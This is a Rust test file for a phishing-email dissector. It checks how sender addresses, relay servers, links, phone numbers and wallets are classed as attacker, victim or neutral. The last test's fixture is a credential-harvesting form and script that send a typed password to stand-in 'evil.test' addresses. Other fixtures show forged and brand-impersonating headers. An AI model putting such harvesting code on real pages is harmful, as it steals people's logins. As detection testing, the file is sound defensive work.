//! Whose a value is, rule by rule, each on a small mail of its own.

use ObservableKind::{Domain, Ip, MailAddress, MessageId, Phone, Url, Wallet};
use Side::{Attacker, Neutral, Victim};
use creel_dissect::{Limits, dissect};
use creel_evidence::{ObservableKind, Side};

/// A mail with these header lines in front of the usual ones, and this HTML as its body.
fn mail(header: &str, html: &str) -> String {
    format!("{header}Subject: x\r\nMIME-Version: 1.0\r\nContent-Type: text/html; charset=utf-8\r\n\r\n{html}")
}

/// The side of a value; `None` if the mail does not hold it.
fn side(raw: &str, kind: ObservableKind, value: &str) -> Option<Side> {
    let dissected = dissect(raw.as_bytes(), &Limits::default());
    let found = dissected.dissection.observables.into_iter().find(|o| o.kind == kind && o.value == value);
    found.map(|o| o.side)
}

const ENTRY: &str =
    "Received: from out.evil.test (203.0.113.9) by mx.corp.example; Mon, 7 Sep 2020 08:12:00 +0000\r\n";

fn authenticated(dmarc: &str) -> String {
    format!("Authentication-Results: mx.corp.example; dmarc={dmarc} header.from=bystander.test\r\n{ENTRY}")
}

#[test]
fn a_domain_whose_policy_denies_the_mail_is_no_attackers() {
    let header = |result: &str, more: &str| {
        format!("{}From: a@bystander.test\r\nTo: ann@corp.example\r\n{more}", authenticated(result))
    };
    let forged = mail(&header("fail", "Return-Path: <b@evil.test>\r\n"), "hi");
    assert_eq!(side(&forged, MailAddress, "a@bystander.test"), Some(Neutral));
    assert_eq!(side(&forged, Domain, "bystander.test"), Some(Neutral));
    assert_eq!(side(&forged, MailAddress, "b@evil.test"), Some(Attacker));
    let answered = mail(&header("fail", "Reply-To: c@bystander.test\r\n"), "hi");
    assert_eq!(side(&answered, MailAddress, "a@bystander.test"), Some(Attacker));
    let silent = mail(&header("none", ""), "hi");
    assert_eq!(side(&silent, MailAddress, "a@bystander.test"), Some(Attacker));
}

#[test]
fn a_brands_own_address_is_neutral_and_its_impostors_is_not() {
    let raw = mail("From: PayPal <service@paypal.com>\r\nReply-To: paypal.help@gmail.com\r\n", "hi");
    assert_eq!(side(&raw, MailAddress, "service@paypal.com"), Some(Neutral));
    assert_eq!(side(&raw, MailAddress, "paypal.help@gmail.com"), Some(Attacker));
    assert_eq!(side(&raw, Domain, "gmail.com"), Some(Neutral));
}

#[test]
fn mail_to_oneself_is_the_victims_unless_it_is_genuine() {
    let header = "From: a@bystander.test\r\nTo: a@bystander.test\r\n";
    let forged = mail(&format!("{}{header}", authenticated("fail")), "hi");
    assert_eq!(side(&forged, MailAddress, "a@bystander.test"), Some(Victim));
    let genuine = mail(&format!("{}{header}", authenticated("pass")), "hi");
    assert_eq!(side(&genuine, MailAddress, "a@bystander.test"), Some(Attacker));
}

#[test]
fn recipients_at_the_senders_domain_do_not_shield_it_when_the_mail_went_elsewhere() {
    let header = format!(
        "Delivered-To: ann@corp.example\r\n{}From: a@bystander.test\r\nTo: list@bystander.test\r\n",
        authenticated("pass")
    );
    let raw = mail(&header, "<a href='https://bystander.test/login'>go</a>");
    assert_eq!(side(&raw, Url, "https://bystander.test/login"), Some(Attacker));
    assert_eq!(side(&raw, MailAddress, "ann@corp.example"), Some(Victim));
}

#[test]
fn sending_servers_are_the_attackers_unless_they_are_everybodys() {
    let raw = mail(ENTRY, "hi");
    assert_eq!(side(&raw, Ip, "203.0.113.9"), Some(Attacker));
    assert_eq!(side(&raw, Domain, "out.evil.test"), Some(Attacker));
    assert_eq!(side(&raw, Domain, "mx.corp.example"), Some(Neutral));
    let shared = mail(&ENTRY.replace("out.evil.test", "mail-x.outbound.protection.outlook.com"), "hi");
    assert_eq!(side(&shared, Ip, "203.0.113.9"), Some(Neutral));
}

#[test]
fn a_message_id_from_the_receiving_server_says_nothing_about_the_sender() {
    let own = mail(&format!("{ENTRY}Message-ID: <1@mx.corp.example>\r\n"), "hi");
    assert_eq!(side(&own, MessageId, "1@mx.corp.example"), Some(Neutral));
    let theirs = mail(&format!("{ENTRY}Message-ID: <1@out.evil.test>\r\n"), "hi");
    assert_eq!(side(&theirs, MessageId, "1@out.evil.test"), Some(Attacker));
}

#[test]
fn links_inside_links_stand_on_their_own() {
    let raw = mail("", "<a href='https://www.google.com/url?q=https%3A%2F%2Fevil.test%2Fa'>go</a>");
    assert_eq!(side(&raw, Url, "https://evil.test/a"), Some(Attacker));
    assert_eq!(side(&raw, Domain, "www.google.com"), Some(Neutral));
    let wrapped = mail(
        "To: ann@corp.example\r\n",
        "<a href='https://eur01.safelinks.protection.outlook.com/?url=https%3A%2F%2Fevil.test%2Fb&data=05%7C01%7Cann%40corp.example%7Cx'>go</a>",
    );
    assert_eq!(side(&wrapped, Url, "https://evil.test/b"), Some(Attacker));
    let dissected = dissect(wrapped.as_bytes(), &Limits::default());
    let wrapper = dissected
        .dissection
        .observables
        .iter()
        .find(|o| o.value.contains("safelinks.protection") && o.kind == Url);
    assert!(wrapper.is_some_and(|o| o.side == Neutral && !o.value.contains("ann")), "{wrapper:?}");
}

#[test]
fn contacts_are_read_from_links_and_text() {
    let html = "<a href='tel:+1-888-555-0100'>call</a> <a href='https://wa.me/4915550100100'>chat</a>\
        <a href='mailto:help%40evil.test?cc=second@evil.test'>write</a>\
        <p>Pay to 1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNa or call +44 20 7946 0958</p>";
    let raw = mail("", html);
    for (kind, value) in [
        (Phone, "+18885550100"),
        (Phone, "+4915550100100"),
        (Phone, "+442079460958"),
        (MailAddress, "help@evil.test"),
        (MailAddress, "second@evil.test"),
        (Wallet, "1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNa"),
    ] {
        assert_eq!(side(&raw, kind, value), Some(Attacker), "{value}");
    }
}

#[test]
fn other_parties_of_a_conversation_are_not_accused() {
    let raw = "From: a@evil.test\r\nSubject: Re: x\r\n\r\nPlease pay. Mail me: a2@evil.test\r\n\
        From: Bob <bob@supplier.test>\r\nTo: ann@corp.example\r\n> write to carol@third.test\r\n";
    assert_eq!(side(raw, MailAddress, "a2@evil.test"), Some(Attacker));
    for party in ["bob@supplier.test", "carol@third.test"] {
        assert_eq!(side(raw, MailAddress, party), Some(Neutral), "{party}");
    }
}

#[test]
fn hidden_links_beside_shown_ones_accuse_nobody() {
    let html = "<a href='https://evil.test/a'>Open</a>\
        <div style='display:none'><a href='https://bystander.test/'>x</a><a href='https://evil.test/b'>y</a></div>";
    let raw = mail("", html);
    assert_eq!(side(&raw, Domain, "evil.test"), Some(Attacker));
    assert_eq!(side(&raw, Domain, "bystander.test"), Some(Neutral));
    let all_hidden = mail("", "<div style='display:none'><a href='https://bystander.test/'>x</a></div>");
    assert_eq!(side(&all_hidden, Domain, "bystander.test"), Some(Attacker));
}

#[test]
fn where_a_form_sends_its_loot_is_the_attackers() {
    let page = "<html><form action='https://formsubmit.co/drop@evil.test' method=post>\
        <input type=hidden name=recipient value='second@evil.test'>\
        <input type=hidden name=login value='ann@corp.example'><input type=password name=p></form>\
        <script>Email.send({To: 'third@evil.test', Body: p})</script></html>";
    for drop in ["drop@evil.test", "second@evil.test", "third@evil.test"] {
        assert_eq!(side(page, MailAddress, drop), Some(Attacker), "{drop}");
    }
    assert_eq!(side(page, Url, "https://formsubmit.co/drop@evil.test"), Some(Attacker));
    assert_eq!(side(page, MailAddress, "ann@corp.example"), Some(Victim));
}
